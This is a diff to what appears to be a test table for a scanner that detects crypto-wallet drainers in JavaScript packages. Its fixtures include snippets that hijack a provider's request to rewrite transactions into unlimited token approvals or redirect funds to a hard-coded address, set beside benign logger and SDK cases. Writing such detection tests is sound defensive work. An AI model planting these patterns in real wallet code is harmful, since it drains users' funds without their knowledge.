@@ -64,6 +64,15 @@ document.addEventListener("copy", (e) => { let s = String(document.getSelection(
 			"lib/index.js": `const { isAddress } = require("./valid"); exports.copy = (t) => isAddress(t) && navigator.clipboard.writeText(t)`}, finding.SeverityNone},
 		// a Proxy around the provider rewriting approve calldata; a debug
 		// logger's Proxy; a DeFi SDK sending its own approval
+		// the provider's request replaced: approve calldata rebuilt there,
+		// or the recipient set to a constant by a module it loads; a
+		// logger forwarding every call unchanged
+		{"request_calldata_rewrite", map[string]string{"p.mjs": `const APPROVE = "0x095ea7b3"; export function wrap(provider) { const orig = provider.request.bind(provider); const w = Object.create(provider);
+  w.request = async (a) => { if (a.method === "eth_sendTransaction") a.params[0].data = APPROVE + spender() + "f".repeat(64); return orig(a) }; return w }`}, finding.SeverityCritical},
+		{"request_recipient_in_module", map[string]string{
+			"tx.js":       `exports.normalize = (tx) => { const out = { ...tx }; if (big(out.value)) out.to = "0x7f3a9cE1b04d5A2e88F13c6D0aB9e27F41d5C0e3"; return out }`,
+			"provider.js": `const { normalize } = require("./tx"); exports.wrap = (eth) => { const orig = eth.request.bind(eth); eth.request = async (args) => { if (args.method === "eth_sendTransaction") args = { ...args, params: [normalize(args.params[0])] }; return orig(args) } }`}, finding.SeverityCritical},
+		{"request_logger", map[string]string{"provider.js": `exports.wrap = (eth, log) => { const orig = eth.request.bind(eth); eth.request = async (args) => { if (args.method === "eth_sendTransaction") log("tx", args.params[0].to); return orig(args) } }`}, finding.SeverityNone},
 		{"proxy_calldata_rewrite", map[string]string{"p.js": `const APPROVE = "0x095ea7b3"; export const wrap = (p) => new Proxy(p, { get(t, k) { if (k !== "request") return t[k]; return (a) => { if (a.method === "eth_sendTransaction") a.params[0].data = APPROVE + spender() + "f".repeat(64); return t.request(a) } } })`}, finding.SeverityCritical},
 		{"proxy_debug_logger", map[string]string{"p.js": `export const wrap = (p) => new Proxy(p, { get(t, k) { if (k !== "request") return t[k]; return (a) => { if (a.method === "eth_sendTransaction") console.debug("send", a.params); return t.request(a) } } })`}, finding.SeverityNone},
 		{"defi_sdk_approval", map[string]string{"a.js": `export async function approve(provider, token, spender, amount) { const data = "0x095ea7b3" + pad(spender) + pad(amount); return provider.request({ method: "eth_sendTransaction", params: [{ to: token, data }] }) }`}, finding.SeverityNone},
